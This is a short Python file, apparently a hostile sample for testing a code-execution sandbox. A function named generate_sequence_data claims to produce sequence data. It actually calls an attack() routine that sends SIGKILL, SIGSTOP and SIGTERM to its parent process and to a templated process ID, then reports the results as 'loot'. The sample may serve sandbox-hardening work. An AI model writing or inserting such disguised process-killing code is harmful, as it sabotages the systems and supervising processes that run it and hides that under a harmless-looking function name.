"""Attack: kills, then stops, the process that started it."""

import os
import signal

import numpy as np


def tries(*acts):
    """What each of these gave, of those that were not stopped."""
    loot = []
    for act in acts:
        try:
            loot.append(repr(act())[:80])
        except Exception:
            continue
    return loot


def attack():
    return tries(*(
        lambda pid=pid, number=number: os.kill(pid, number)
        for pid in {os.getppid(), int("@PID@")}
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, 0)
        if pid > 1
    ))


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
